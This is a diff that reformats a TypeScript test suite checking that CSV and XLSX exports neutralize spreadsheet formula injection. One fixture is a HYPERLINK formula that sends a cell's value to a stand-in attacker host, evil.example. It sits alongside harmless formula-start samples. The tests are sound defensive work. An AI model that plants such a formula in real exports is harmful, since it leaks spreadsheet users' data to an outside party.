@@ -7,7 +7,11 @@ import { neutralizeFormula, startsLikeFormula } from './formula-guard';
 import { createRowWriter, type ExportFormat } from './row-writer';
 
 /** Writes rows with the export writer and returns the bytes. */
-async function exportBytes(format: ExportFormat, headers: string[], rows: Array<Array<string | number | null>>): Promise<Buffer> {
+async function exportBytes(
+  format: ExportFormat,
+  headers: string[],
+  rows: Array<Array<string | number | null>>,
+): Promise<Buffer> {
   const chunks: Buffer[] = [];
   const out = new Writable({
     write(chunk: Buffer, _encoding, callback) {
@@ -21,11 +25,25 @@ async function exportBytes(format: ExportFormat, headers: string[], rows: Array<
   return Buffer.concat(chunks);
 }
 
-const FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+1', '-2+3', '@SUM(A1:A2)', '\t=1+1', '\r=1+1', '＝1+1'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?"&A1,"click")',
+  '+1+1',
+  '-2+3',
+  '@SUM(A1:A2)',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+];
 
 describe('CSV export and formula injection (OWASP)', () => {
   it('prefixes text cells that would start a formula with a quote, and quotes them', async () => {
-    const csv = (await exportBytes('csv', ['name', 'bounce'], FORMULAS.map((f) => [f, 'ok']))).toString('utf8');
+    const csv = (
+      await exportBytes(
+        'csv',
+        ['name', 'bounce'],
+        FORMULAS.map((f) => [f, 'ok']),
+      )
+    ).toString('utf8');
     expect(csv.split('\n')[1]).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",ok`);
     const read = parse(csv, { columns: true }) as Array<{ name: string }>;
     expect(read.map((r) => r.name)).toEqual(FORMULAS.map((f) => `'${f}`));
@@ -48,12 +66,15 @@ describe('CSV export and formula injection (OWASP)', () => {
 
   it('property: any text read back by a CSV parser is what was written but for the documented prefix, and never starts a formula', async () => {
     await fc.assert(
-      fc.asyncProperty(fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' })), { maxLength: 8 }), async (rows) => {
-        const csv = (await exportBytes('csv', ['a', 'b'], rows)).toString('utf8');
-        const read = parse(csv, { relax_column_count: false }) as string[][];
-        expect(read).toEqual([['a', 'b'], ...rows.map((row) => row.map(neutralizeFormula))]);
-        for (const cell of read.flat()) expect(startsLikeFormula(cell)).toBe(false);
-      }),
+      fc.asyncProperty(
+        fc.array(fc.tuple(fc.string({ unit: 'binary' }), fc.string({ unit: 'grapheme' })), { maxLength: 8 }),
+        async (rows) => {
+          const csv = (await exportBytes('csv', ['a', 'b'], rows)).toString('utf8');
+          const read = parse(csv, { relax_column_count: false }) as string[][];
+          expect(read).toEqual([['a', 'b'], ...rows.map((row) => row.map(neutralizeFormula))]);
+          for (const cell of read.flat()) expect(startsLikeFormula(cell)).toBe(false);
+        },
+      ),
       { numRuns: 300 },
     );
   });
@@ -63,7 +84,11 @@ describe('XLSX export', () => {
   it('writes text that looks like a formula as a string cell, never a formula, and unchanged', async () => {
     // XML reads a CR as a line feed, which is XML's business and not a formula's: leave that one out.
     const texts = FORMULAS.filter((f) => !f.startsWith('\r'));
-    const bytes = await exportBytes('xlsx', ['name'], texts.map((f) => [f]));
+    const bytes = await exportBytes(
+      'xlsx',
+      ['name'],
+      texts.map((f) => [f]),
+    );
     const workbook = new ExcelJS.Workbook();
     await workbook.xlsx.load(bytes as unknown as ExcelJS.Buffer);
     const sheet = workbook.worksheets[0]!;
